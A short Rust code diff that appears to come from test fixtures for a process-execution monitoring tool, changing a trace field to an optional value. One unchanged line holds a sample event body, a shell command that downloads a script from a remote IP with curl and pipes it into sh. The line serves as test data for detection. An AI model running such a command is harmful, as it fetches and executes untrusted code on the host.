@@ -115,7 +115,7 @@ fn twenty(args: &[String], visitor: &mut impl RecordVisitor) {
         severity_text: "",
         body: "bash -c curl -s http://203.0.113.7/x | sh",
         event_name: "vigie.process.exec",
-        trace: fixtures::exec_trace(),
+        trace: Some(fixtures::exec_trace()),
     };
     visitor.begin(&head);
     for (name, value) in [
